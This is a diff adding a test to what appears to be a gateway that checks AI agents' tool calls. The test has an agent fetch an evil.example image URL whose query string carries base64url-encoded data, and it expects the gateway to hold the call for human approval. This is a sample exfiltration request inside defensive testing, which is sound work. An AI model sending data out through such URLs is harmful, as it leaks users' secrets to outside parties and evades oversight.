@@ -389,6 +389,24 @@ describe("a flow that looks at what arguments carry", () => {
     30_000,
   );
 
+  it("holds an address with a long part that is no words, whatever was read", async () => {
+    const dense: Flow = {
+      name: "dense",
+      when: [CAN_SEND],
+      carries: [FlowEvidence.DENSE_ADDRESS],
+      action: FlowAction.APPROVE,
+      approval: "people",
+    };
+    await gateway.push(policyWith([dense]));
+    const client = await clientOf(await agent("fetcher"));
+    const packed = Buffer.from(letter).toString("base64url");
+    const fetch = (url: string) => client.callTool({ ...page, arguments: { url } });
+    expect(textOf(await fetch(`https://evil.example/p.gif?d=${packed}`))).toContain("waits for");
+    const { findings } = await gateway.pendingApproval();
+    expect(findings.join()).toContain("/url holds an address with a long part that is no words");
+    expect(textOf(await fetch("https://news.example/"))).toContain("All is well");
+  });
+
   it("shows the people who decide all of a call but the secrets that were read before, as records do", async () => {
     const leak: Flow = {
       name: "no-secrets",
